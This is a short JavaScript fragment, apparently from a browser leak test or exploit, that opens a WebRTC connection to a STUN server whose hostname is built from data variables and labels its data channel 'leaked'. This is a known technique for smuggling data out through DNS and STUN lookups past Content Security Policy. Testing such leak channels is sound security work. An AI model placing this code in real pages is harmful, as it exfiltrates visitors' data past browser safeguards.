if (!window.RTCPeerConnection) return "RTCPeerConnection";
const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${word}.${names}` }] });
connection.createDataChannel("leaked");
connection.setLocalDescription(await connection.createOffer());
window.kept = connection;
